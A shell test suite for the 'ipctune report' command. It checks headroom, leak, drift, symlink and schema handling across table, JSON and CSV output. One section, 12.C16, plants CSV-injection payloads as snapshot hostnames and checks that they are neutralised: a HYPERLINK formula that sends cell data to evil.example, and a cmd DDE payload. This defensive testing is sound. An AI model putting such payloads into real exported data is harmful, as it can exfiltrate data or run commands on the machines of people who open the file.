#!/bin/sh
# 'ipctune report' over real snapshots taken in private IPC and UTS
# namespaces (one "host" each), plus broken ones: the least-headroom
# lists, the hosts with unattached segments, the sysctl distribution and
# the skipped files, as table, JSON and CSV.
. "$(dirname "$0")/lib.sh"
F=$TMPD/fleet
mkdir -p "$F/dc1/alpha" "$F/dc2"
# snap HOST FILE SETUP: a snapshot of a namespace prepared by SETUP
snap() {
	IPCTUNE=$IPCTUNE unshare --ipc --uts --mount --propagation private \
	    sh -c "hostname $1 && $3 && \"\$IPCTUNE\" snapshot" >"$2" 2>"$TMPD/err" ||
	    fail "snapshot of $1 failed: $(cat "$TMPD/err")"
}
# alpha: semmni nearly used up (120 of 128 arrays)
snap alpha "$F/dc1/alpha/alpha.json" 'echo "250 32000 32 128" >/proc/sys/kernel/sem &&
    i=0; while [ $i -lt 120 ]; do ipcmk -S 1 >/dev/null; i=$((i + 1)); done'
# bravo: two unattached segments, one queue
snap bravo "$F/dc1/bravo.json" 'ipcmk -M 1048576 >/dev/null &&
    ipcmk -M 8192 >/dev/null && ipcmk -Q >/dev/null'
# charlie: defaults
snap charlie "$F/dc2/charlie.json" true
good=$(ls "$F"/dc1/alpha/alpha.json "$F"/dc1/bravo.json "$F"/dc2/charlie.json)
# broken ones: truncated, a future schema, not a snapshot, other files
head -c 300 "$F/dc2/charlie.json" >"$F/dc2/truncated.json"
python3 -c 'import json, sys
d = json.load(open(sys.argv[1])); d["schema_version"] = 2
json.dump(d, open(sys.argv[2], "w"))' "$F/dc2/charlie.json" "$F/dc2/future.json"
"$IPCTUNE" status --format json >"$F/status.json"
echo "not json" >"$F/notes.txt"	# ignored: not *.json

"$IPCTUNE" report "$F" >"$TMPD/table" 2>&1
expect_eq "report exits 1 when snapshots were skipped" 1 $?
expect_eq "the table counts read and skipped snapshots" \
    "6 snapshots: 3 read, 3 skipped" "$(head -1 "$TMPD/table")"
grep -q "^semmni *alpha .*93.8%" "$TMPD/table" &&
    ok "the table puts alpha first for semmni" ||
    fail "alpha is not listed for semmni: $(grep '^semmni' "$TMPD/table")"
# shellcheck disable=SC2086
"$IPCTUNE" report $good >/dev/null 2>&1
expect_eq "report exits 0 when every snapshot was read" 0 $?

"$IPCTUNE" report --format json --top 2 "$F" >"$TMPD/r.json" 2>"$TMPD/err"
cat >"$TMPD/check.py" <<'EOT'
import json, sys
r = json.load(open(sys.argv[1]))
assert r["schema_version"] == 1 and r["document"] == "report"
assert r["snapshots"] == {"files": 6, "read": 3, "skipped": 3}, r["snapshots"]
top = {e["resource"]: e["hosts"] for e in r["headroom"]}
assert all(len(h) <= 2 for h in top.values()), "more than --top 2 hosts"
s = top["semmni"][0]
assert (s["hostname"], s["used"], s["limit"], s["free"]) == \
    ("alpha", 120, 128, 8), s
assert abs(s["used_ratio"] - 120 / 128) < 1e-9
assert top["msgmni"][0]["hostname"] == "bravo", top["msgmni"]
# shmmax and shmall keep the big-integer rule
sh = top["shmall"][0]
assert sh["limit"] is None and sh["limit_exact"] == "18446744073692774399", sh
leaks = [(h["hostname"], h["unattached_shm_segments"],
          h["unattached_shm_bytes"]) for h in r["leaks"]["hosts"]]
assert leaks == [("bravo", 2, 1048576 + 8192)], leaks
# judged on the host: ipcmk's segments lost their creator; the queue and
# alpha's arrays are younger than the minimum age, so they are no orphans
b = r["leaks"]["hosts"][0]
assert b["evidence"] == "orphans" and b["leaked"] == 2, b
assert {k: b["orphans"][k] for k in ("shm", "sem", "msg")} == \
    {"shm": 2, "sem": 0, "msg": 0}, b
sem = [e for e in r["sysctls"] if e["sysctl"] == "kernel.sem"][0]
vals = {v["value"]: v["hosts"] for v in sem["values"]}
assert vals.get("250 32000 32 128") == 1, vals
assert sum(vals.values()) == 3 and sem["missing_hosts"] == 0, sem
shmmni = [e for e in r["sysctls"] if e["sysctl"] == "kernel.shmmni"][0]
assert shmmni["values"][0]["hosts"] == 3, shmmni
skipped = {s["file"].rsplit("/", 1)[1]: s["reason"] for s in r["skipped"]}
assert set(skipped) == {"truncated.json", "future.json", "status.json"}, skipped
assert "unsupported schema_version 2" in skipped["future.json"], skipped
assert "not an ipctune snapshot" in skipped["status.json"], skipped
assert "line" in skipped["truncated.json"], skipped
assert "hosts" not in r
EOT
if python3 "$TMPD/check.py" "$TMPD/r.json" 2>"$TMPD/py.err"; then
	ok "JSON: headroom, leaks, distribution and skipped files are right"
else
	fail "JSON: $(tail -1 "$TMPD/py.err")"
fi

if validate "$TOP/contrib/schema/report-1.json" "$TMPD/r.json" \
    2>"$TMPD/verr"; then
	ok "the report validates against report-1.json"
else
	fail "report-1.json rejects the report: $(head -3 "$TMPD/verr")"
fi
"$IPCTUNE" report --format json --hosts -p oracle "$F" >"$TMPD/rh.json" 2>&1
if validate "$TOP/contrib/schema/report-1.json" "$TMPD/rh.json" \
    2>"$TMPD/verr"; then
	ok "report --hosts -p validates against report-1.json"
else
	fail "report-1.json rejects --hosts -p: $(head -3 "$TMPD/verr")"
fi

"$IPCTUNE" report --format csv "$F" >"$TMPD/r.csv" 2>/dev/null
cat >"$TMPD/check_csv.py" <<'EOT'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert len(rows) == 6, len(rows)
by = {r["FILE"].rsplit("/", 1)[1]: r for r in rows}
b = by["bravo.json"]
assert (b["HOST"], b["STATUS"], b["UNATTACHED"], b["UNATTACHED-BYTES"]) == \
    ("bravo", "ok", "2", str(1048576 + 8192)), b
a = by["alpha.json"]
assert a["WORST"] == "semmni" and abs(float(a["SEMMNI%"]) - 0.9375) < 1e-6, a
assert a["kernel.sem"] == "250 32000 32 128", a["kernel.sem"]
assert a["kernel.shmmax"] == "18446744073692774399", a["kernel.shmmax"]
f = by["future.json"]
assert f["STATUS"] == "skipped" and "schema_version" in f["REASON"], f
# a reason with a comma or a quote is quoted, so the columns stay aligned
assert all(len(r) == len(rows[0]) for r in rows)
EOT
if python3 "$TMPD/check_csv.py" "$TMPD/r.csv" 2>"$TMPD/py.err"; then
	ok "CSV: one row per snapshot, raw numbers, skipped rows with reasons"
else
	fail "CSV: $(tail -1 "$TMPD/py.err")"
fi
out=$("$IPCTUNE" report --format csv -o HOST,SEMMNI% "$F/dc1/alpha/alpha.json")
expect_eq "CSV with -o" "HOST,SEMMNI%
alpha,0.937500" "$out"
out=$("$IPCTUNE" report --hosts -n -o HOST,UNATTACHED "$F/dc1" | tr -s ' ')
expect_eq "--hosts table with -o" "alpha 0
bravo 2" "$out"
out=$("$IPCTUNE" report --top 1 "$F" 2>/dev/null | grep -c '^semmni ')
expect_eq "--top 1 lists one host per resource" 1 "$out"

# a snapshot without verdicts (an older ipctune): unattached segments
python3 -c 'import json, sys
d = json.load(open(sys.argv[1])); del d["orphans"]
json.dump(d, open(sys.argv[2], "w"))' "$F/dc1/bravo.json" "$TMPD/old.json"
out=$("$IPCTUNE" report --json "$TMPD/old.json" | python3 -c 'import json, sys
h = json.load(sys.stdin)["leaks"]["hosts"][0]
print(h["evidence"], h["leaked"], h["orphans"])')
expect_eq "without verdicts the unattached segments are the evidence" \
    "unattached_shm 2 None" "$out"
grep -q '"orphans": {' "$F/dc1/bravo.json" &&
    ok "snapshot carries the orphan verdicts judged on the host" ||
    fail "snapshot has no orphans member"

# drift from a profile: alpha's semopm 32 is below oracle's 100
# shellcheck disable=SC2086
"$IPCTUNE" report -p oracle --format json $good >"$TMPD/d.json" 2>"$TMPD/err"
expect_eq "drift from -p makes report exit 4" 4 $?
if python3 - "$TMPD/d.json" <<'EOT' 2>"$TMPD/py.err"
import json, sys
d = json.load(open(sys.argv[1]))["drift"]
assert d["profiles"] == ["oracle"], d
assert (d["compliant"], d["drifting"], d["errors"]) == (2, 1, 0), d
h = d["hosts"][0]
assert h["hostname"] == "alpha" and h["state"] == "drift", h
assert h["detail"] == "kernel.sem.semopm 32 -> 100", h
EOT
then
	ok "JSON names the drifting host and what differs"
else
	fail "drift JSON: $(tail -1 "$TMPD/py.err")"
fi
out=$("$IPCTUNE" report -p oracle --hosts -n -o HOST,DRIFT $good | tr -s ' ')
expect_eq "--hosts shows each host's drift" "alpha drift: kernel.sem.semopm 32 -> 100
bravo ok
charlie ok" "$out"
"$IPCTUNE" report -p oracle "$F/dc1/bravo.json" >/dev/null 2>&1
expect_eq "no drift: exit 0" 0 $?
"$IPCTUNE" report -p oracle --set semopm=1 "$F/dc1/bravo.json" >/dev/null 2>&1
expect_eq "--set of an unknown variable is a usage error" 2 $?
"$IPCTUNE" report -p no-such-profile "$F/dc1/bravo.json" >/dev/null 2>&1
expect_eq "an unknown profile fails" 1 $?
"$IPCTUNE" report --json "$F/dc1/bravo.json" | grep -q '"drift": null' &&
    ok "without -p, drift is null" || fail "drift is not null without -p"

"$IPCTUNE" report "$TMPD/missing.json" >"$TMPD/out" 2>&1
expect_eq "a missing file is reported, exit 1" 1 $?
grep -q "missing.json *cannot read snapshot" "$TMPD/out" &&
    ok "the missing file is listed with the reason" ||
    fail "missing file not listed: $(cat "$TMPD/out")"
"$IPCTUNE" report >/dev/null 2>&1
expect_eq "no operand is a usage error" 2 $?
"$IPCTUNE" report --top 0 "$F" >/dev/null 2>&1
expect_eq "--top 0 is a usage error" 2 $?
"$IPCTUNE" report -o HOST "$F" >/dev/null 2>&1
expect_eq "-o without --hosts or csv is a usage error" 2 $?
"$IPCTUNE" report --format prometheus "$F" >/dev/null 2>&1
expect_eq "report has no prometheus output" 2 $?

# memory follows the number of hosts, not the size of the snapshots:
# 400 copies of a snapshot with 2,000 objects stay far below their size
python3 - "$F/dc1/bravo.json" "$TMPD/big" <<'EOT'
import json, os, sys
d = json.load(open(sys.argv[1]))
o = d["objects"]["sem"] = [dict(id=i, key=i, key_hex="0x%08x" % i, uid=0,
    user="root", gid=0, group="root", cuid=0, cgid=0, perms="0600", mode=384,
    nsems=1, otime_unix=None, ctime_unix=1) for i in range(2000)]
d["usage"]["sem_arrays"] = len(o)
d["usage"]["sem_semaphores"] = len(o)
os.makedirs(sys.argv[2])
text = json.dumps(d)
for i in range(400):
    open(os.path.join(sys.argv[2], "h%03d.json" % i), "w").write(text)
EOT
total=$(du -sk "$TMPD/big" | cut -f1)
# measured on the program itself: $IPCTUNE may be a wrapper (valgrind),
# whose own memory is not the program's
rss=$(/usr/bin/time -f %M "$TOP/ipctune" report "$TMPD/big" 2>&1 >/dev/null | tail -1)
if nm -D "$TOP/ipctune" 2>/dev/null | grep -q __asan_init; then
	# AddressSanitizer keeps freed memory in quarantine on purpose
	ok "sanitizer build: max RSS ${rss} KiB not judged"
elif [ "$rss" -lt $((total / 4)) ]; then
	ok "400 snapshots of $((total / 1024)) MiB in all: max RSS ${rss} KiB"
else
	fail "max RSS ${rss} KiB for $((total / 1024)) MiB of snapshots"
fi
# 12.C16: hostile host names in snapshots never reach a spreadsheet as
# formulas (OWASP "CSV Injection"): a text cell starting with =, +, -, @,
# tab or CR gets a leading ' inside quotes; numbers stay numbers.
C=$TMPD/csvinj
mkdir -p "$C"
python3 - "$F/dc2/charlie.json" "$C" <<'EOT'
import json, os, sys
d = json.load(open(sys.argv[1]))
names = ['=HYPERLINK("http://evil.example/?"&A1,"click")',
         "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1']
for i, n in enumerate(names):
    d['host']['hostname'] = n
    d['ipc_namespace']['hostname'] = n
    d['host']['kernel_release'] = '=cmd|x' if i == 0 else '6.1'
    json.dump(d, open(os.path.join(sys.argv[2], 'h%d.json' % i), 'w'))
json.dump(d, open(os.path.join(sys.argv[2], '=1+1.json'), 'w'))
EOT
(cd "$C" && "$IPCTUNE" report --format csv h0.json h1.json h2.json h3.json \
    h4.json h5.json =1+1.json missing.json) >"$TMPD/inj.csv" 2>/dev/null
cat >"$TMPD/inj.py" <<'EOT'
import csv, re, sys
rows = list(csv.reader(open(sys.argv[1], newline='')))
num = re.compile(r'-?[0-9]+(\.[0-9]+)?$')
for r in rows[1:]:
    for c in r:
        if c and c[0] in '=+-@\t\r' and not num.match(c) and c != '-':
            sys.exit('formula cell %r in %r' % (c, r[:3]))
hosts = [r[1] for r in rows[1:]]
want = ['\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'-2+3+cmd|' /C calc'!A0", "'+1+1", "'@SUM(1+1)",
        "'\\x09=1+1", "'\\x0d=1+1"]
for w in want:
    assert w in hosts, (w, hosts)
assert rows[1][3] == "'=cmd|x", rows[1][3]
files = [r[0] for r in rows[1:]]
assert "'=1+1.json" in files, files
EOT
if out=$(python3 "$TMPD/inj.py" "$TMPD/inj.csv" 2>&1); then
	ok "12.C16 report --format csv neutralises formula cells from hostile snapshots"
else
	fail "12.C16 report --format csv writes a formula cell: $out"
fi

# 12.C17: report DIR does not follow directory symlinks and counts each
# file once: a "latest" link to a dated directory, a link back up (a
# loop), a hard link and a symbolic link to the same snapshot.
L=$TMPD/links
mkdir -p "$L/2026-12-07/web1" "$L/2026-12-07/web2"
cp "$F/dc1/bravo.json" "$L/2026-12-07/web1/web1.json"
cp "$F/dc2/charlie.json" "$L/2026-12-07/web2/web2.json"
ln -s 2026-12-07 "$L/latest"
ln -s .. "$L/2026-12-07/web1/up"
ln "$L/2026-12-07/web2/web2.json" "$L/2026-12-07/web2/again.json"
ln -s web2.json "$L/2026-12-07/web2/link.json"
"$IPCTUNE" report "$L" >"$TMPD/links.out" 2>&1
expect_eq "12.C17 report DIR counts each snapshot once through latest, loop and links" \
    "2 snapshots: 2 read, 0 skipped" "$(head -1 "$TMPD/links.out")"
"$IPCTUNE" report --format json "$L" "$L/latest" \
    "$L/2026-12-07/web1/web1.json" >"$TMPD/links.json" 2>/dev/null
expect_eq "12.C17 a file named again as an operand or through a named link counts once" \
    '{"files": 2, "read": 2, "skipped": 0}' \
    "$(python3 -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))["snapshots"]))' "$TMPD/links.json")"
ln -s "$L/2026-12-07" "$TMPD/dated"
"$IPCTUNE" report "$TMPD/dated" >"$TMPD/links.out" 2>&1
expect_eq "12.C17 a symbolic link named as the operand is followed" \
    "2 snapshots: 2 read, 0 skipped" "$(head -1 "$TMPD/links.out")"
# POSIX objects per host: a snapshot of private IPC, mount, PID and UTS
# namespaces with their own tmpfs at /dev/shm and their own mqueue fs.
# uid 1001's maker exited (suspects: younger than the grace age); one
# file stays mapped by a live process (in use).
P=$TMPD/posix
mkdir -p "$P"
cat >"$TMPD/posix.sh" <<'EOT'
hostname posix1
mount -t tmpfs -o size=8m,mode=1777 tmpfs /dev/shm || exit 1
mkdir -p /dev/mqueue && mount -t mqueue none /dev/mqueue || exit 1
as() { u=$1; shift; setpriv --reuid="$u" --regid="$u" --clear-groups "$@"; }
as 1001 "$PH" shm gone.1 4096 sem gone-sem 0 mq /gone-q 4 64 || exit 1
as 1001 dd if=/dev/zero of=/dev/shm/big.1 bs=64k count=16 2>/dev/null
"$PH" shm held 8192 shmmap /held hold >"$TMPD/posix.hold" 2>&1 &
i=0
until grep -q '^ready$' "$TMPD/posix.hold" || [ $i -gt 500 ]; do
	i=$((i + 1)); sleep 0.01
done
"$IPCTUNE" snapshot --pid $$
EOT
PH=$BUILD/tests/posixhelper IPCTUNE=$IPCTUNE TMPD=$TMPD unshare --ipc --uts \
    --mount --propagation private --pid --fork --mount-proc \
    sh "$TMPD/posix.sh" >"$P/posix1.json" 2>"$TMPD/err" ||
    fail "POSIX snapshot failed: $(cat "$TMPD/err")"
# the same host judged after the grace age, and as an older ipctune wrote it
python3 - "$P/posix1.json" "$P" <<'EOT'
import json, sys
d = json.load(open(sys.argv[1]))
o = d["orphans"]
o["pshm"], o["suspect"]["pshm"], o["pshm_bytes"] = 2, 0, 1048576
d["host"]["hostname"] = "posix2"
json.dump(d, open(sys.argv[2] + "/posix2.json", "w"))
for k in ("pshm", "psem", "pmq", "suspect", "pshm_bytes"):
    del o[k]
for k in ("pshm", "psem", "pmq"):
    del d["objects"][k]
del d["posix"]
d["host"]["hostname"] = "old3"
json.dump(d, open(sys.argv[2] + "/old3.json", "w"))
EOT
"$IPCTUNE" report --format csv -o HOST,LEAKED,PSHM,PSEM,PMQ,PSHM-BYTES,$(
    )SUSPECT-PSHM,SUSPECT-PSEM,SUSPECT-PMQ,ORPHAN-PSHM,ORPHAN-PSEM,$(
    )ORPHAN-PMQ,ORPHAN-PSHM-BYTES "$P/posix1.json" "$P/posix2.json" \
    "$P/old3.json" >"$TMPD/p.csv" 2>"$TMPD/err"
expect_eq "CSV: POSIX objects, bytes and verdicts per host; none in an old snapshot" \
    "HOST,LEAKED,PSHM,PSEM,PMQ,PSHM-BYTES,SUSPECT-PSHM,SUSPECT-PSEM,SUSPECT-PMQ,ORPHAN-PSHM,ORPHAN-PSEM,ORPHAN-PMQ,ORPHAN-PSHM-BYTES
posix1,0,3,1,1,1052672,2,1,1,0,0,0,0
posix2,2,3,1,1,1052672,0,1,1,2,0,0,1048576
old3,0,,,,,,,,,,," "$(cat "$TMPD/p.csv")"
out=$("$IPCTUNE" report --hosts -o HOST,PSHM,PSHM-BYTES,SUSPECT-PSHM \
    "$P/posix1.json" "$P/old3.json" | tr -s ' ')
expect_eq "--hosts table: POSIX columns, blank for an old snapshot" \
    "HOST PSHM PSHM-BYTES SUSPECT-PSHM
posix1 3 1.0MiB 2
old3" "$out"
out=$("$IPCTUNE" report "$P" | grep '^posix2 ' | tr -s ' ')
expect_eq "the leak summary counts the POSIX orphans" \
    "posix2 2 0 0 0 2 orphans $P/posix2.json" "$out"
"$IPCTUNE" report --json --hosts "$P" >"$TMPD/p.json" 2>"$TMPD/err"
if python3 - "$TMPD/p.json" <<'EOT' 2>"$TMPD/py.err"
import json, sys
r = json.load(open(sys.argv[1]))
h = {x["hostname"]: x for x in r["hosts"]}
p1, p2, o3 = h["posix1"], h["posix2"], h["old3"]
assert p1["posix_objects"] == {"pshm": 3, "psem": 1, "pmq": 1}, p1
assert p1["pshm_bytes"] == 1052672, p1
assert p1["suspect"] == {"pshm": 2, "psem": 1, "pmq": 1}, p1
assert p1["orphans"] == {"shm": 0, "sem": 0, "msg": 0, "pshm": 0, "psem": 0,
                         "pmq": 0}, p1
assert p2["orphan_pshm_bytes"] == 1048576 and p2["leaked"] == 2, p2
assert o3["posix_objects"] is None and o3["pshm_bytes"] is None, o3
assert o3["suspect"] is None and o3["orphan_pshm_bytes"] is None, o3
assert o3["orphans"]["pshm"] is None and o3["orphans"]["shm"] == 0, o3
l = [x for x in r["leaks"]["hosts"] if x["hostname"] == "posix2"][0]
assert l["orphans"]["pshm"] == 2 and l["orphan_pshm_bytes"] == 1048576, l
EOT
then
	ok "JSON: posix_objects, pshm_bytes, suspect and POSIX orphans; null when absent"
else
	fail "POSIX JSON: $(tail -1 "$TMPD/py.err")"
fi
if validate "$TOP/contrib/schema/report-1.json" "$TMPD/p.json" \
    2>"$TMPD/verr" && validate "$TOP/contrib/schema/snapshot-1.json" \
    "$P/posix1.json" 2>>"$TMPD/verr"; then
	ok "the POSIX report and snapshot validate against their schemas"
else
	fail "schema rejects the POSIX report or snapshot: $(head -3 "$TMPD/verr")"
fi
# a \u escape makes the fast parser decline: jansson must read the same
sed 's/"hostname": "posix1"/"hostname": "pos\\u0069x1"/' "$P/posix1.json" \
    >"$TMPD/slow.json"
grep -q 'pos\\u0069x1' "$TMPD/slow.json" || fail "no \\u escape was inserted"
a=$("$IPCTUNE" report --json --hosts "$P/posix1.json" | sed '/"file"\|"generated_at"/d')
b=$("$IPCTUNE" report --json --hosts "$TMPD/slow.json" | sed '/"file"\|"generated_at"/d')
if [ -n "$a" ] && [ "$a" = "$b" ]; then
	ok "the fast parser and jansson give the same POSIX report"
else
	fail "fast parser and jansson differ on a POSIX snapshot"
fi

# 13.4: a negative kernel.sem field is reported as the host holds it,
# in the table, the JSON and the CSV, not as 0
snap delta "$TMPD/delta.json" 'echo "250 -7 -1 128" >/proc/sys/kernel/sem'
"$IPCTUNE" report "$TMPD/delta.json" >"$TMPD/out" 2>&1
expect_match "13.4 table: kernel.sem 250 -7 -1 128 as held" \
    '^kernel\.sem +250 -7 -1 128 +1 ' "$TMPD/out"
expect_eq "13.4 JSON: kernel.sem 250 -7 -1 128 as held" "250 -7 -1 128" \
    "$("$IPCTUNE" report --format json "$TMPD/delta.json" | jq -r \
    '.sysctls[] | select(.sysctl == "kernel.sem") | .values[0].value')"
"$IPCTUNE" report --format csv "$TMPD/delta.json" >"$TMPD/out" 2>&1
expect_match "13.4 CSV: kernel.sem 250 -7 -1 128 as held" \
    ',250 -7 -1 128,' "$TMPD/out"
finish
